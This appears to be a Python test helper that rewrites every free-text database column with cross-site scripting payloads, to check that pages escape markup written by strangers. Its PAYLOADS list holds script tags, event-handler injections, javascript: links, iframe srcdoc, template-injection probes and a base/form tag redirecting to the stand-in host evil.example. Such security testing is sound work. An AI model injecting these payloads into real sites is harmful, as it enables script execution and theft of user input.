"""Markup in every text that a database holds: what strangers could have written, whatever page shows it."""

import inspect
import json
import re
from collections.abc import Callable
from enum import StrEnum
from importlib import import_module
from pathlib import Path
from typing import Any

from sqlalchemy import JSON, String, Table, select, update
from sqlalchemy.orm import Session

import shared
from coordinator.models import Base

HACK = "window.hacked=1"
PAYLOADS = (
    f"<script data-xss>{HACK}</script>",
    f'"><img data-xss src=x onerror={HACK}>',
    f"'><svg data-xss onload={HACK}>",
    f'" data-xss onmouseover="{HACK}" x="',
    f"' data-xss onfocus='{HACK}' autofocus x='",
    f"</script><script data-xss>{HACK}</script>",
    f"</textarea></title></style></pre></bdi><b data-xss onclick={HACK}>",
    f"[x](javascript:{HACK}) <a data-xss href=javascript:{HACK}>y</a>",
    "<style data-xss>*{display:none}</style><!--",
    "<iframe data-xss srcdoc='<script>parent.hacked=1</script>'>",
    "<base data-xss href=https://evil.example/><form data-xss action=//evil.example>",
    "{{7*7}}{% raw %}${7*7}<xss-probe data-xss>",
)
NAMES = ("projects.name", "volunteers.name", "branches.name", "experiments.topic", "topic_counts.topic",
         "finding_tags.tag", "promotions.rung")  # fmt: skip
"""Columns with words of a strict pattern, which no stranger can write markup into (`shared.protocol.Slug`)."""

KEPT = frozenset(("projects.contract", "queue_marks.item", "passwords.password_hash", "holdout_secrets.secret"))
"""Texts that a program reads back."""

SHORT = {"isa": 60, "precision": 20, "torch_version": 60, "model": 120, "agent": 80}
"""Bounds of texts in documents, where they are less than 200."""

_KEPT_VALUES = re.compile(
    r"|[0-9a-f]{7,64}|[0-9a-f-]{36}|\d{4}-\d\d(-\d\dT.*)?|\d{4}-W\d\d|[\d.]+|https?://.*|(root|epoch|kind|mix):.*"
)


def list_enum_values() -> set[str]:
    """All values of the enums of `shared`, which stand in columns of their own."""
    names = (path.stem for path in Path(shared.__file__).parent.glob("[!_]*.py"))
    found = (kind for name in names for _, kind in inspect.getmembers(import_module(f"shared.{name}"), inspect.isclass))
    return {value.value for kind in found if issubclass(kind, StrEnum) for value in kind}


class Hostile:
    """Puts payloads before texts. The same text becomes the same, so that what refers to each other still does."""

    def __init__(self, session: Session) -> None:
        self._session, self._kept, self._made = session, list_enum_values(), dict[str, str]()
        for name in NAMES:
            table, column = name.split(".")
            self._kept |= set(session.scalars(select(Base.metadata.tables[table].c[column])))

    def spread(self) -> set[str]:
        """Change the texts of all tables; returns `table.column` of those in which something changed."""
        changed = set[str]()
        for table in Base.metadata.sorted_tables:
            for column in table.columns:
                name = f"{table.name}.{column.name}"
                if name in NAMES or name in KEPT or column.foreign_keys:
                    continue
                if isinstance(column.type, String):
                    length = column.type.length or 4_000
                    changed |= {name} if self._change(table, column.name, self._cut_to(length)) else set()
                elif isinstance(column.type, JSON):
                    changed |= {name} if self._change(table, column.name, self._walk) else set()
        return changed

    def _cut_to(self, length: int) -> Callable[[Any], Any]:
        def change(value: Any) -> Any:
            if isinstance(value, str) and value.startswith("{"):  # a document in a column of text
                return json.dumps(self._walk(json.loads(value)))
            return self._taint(value, length) if isinstance(value, str) else value

        return change

    def _walk(self, value: Any, length: int = 200) -> Any:
        if isinstance(value, dict):
            return {name: self._walk(one, SHORT.get(name, 200)) for name, one in value.items()}
        if isinstance(value, list):
            return [self._walk(one, length) for one in value]
        return self._taint(value, length) if isinstance(value, str) else value

    def _taint(self, value: str, length: int) -> str:
        if value in self._kept or _KEPT_VALUES.fullmatch(value) or length < 60:
            return value
        if value not in self._made:
            payload = PAYLOADS[len(self._made) % len(PAYLOADS)]
            self._made[value] = f"{payload} {value}"
        return self._made[value][:length]

    def _change(self, table: Table, column: str, change: Callable[[Any], Any]) -> bool:
        keys, any_changed = list(table.primary_key.columns), False
        for row in self._session.execute(select(*keys, table.c[column].label("old"))).all():
            if (new := change(row.old)) != row.old:
                where = [key == row[number] for number, key in enumerate(keys)]
                self._session.execute(update(table).where(*where).values({column: new}))
                any_changed = True
        return any_changed
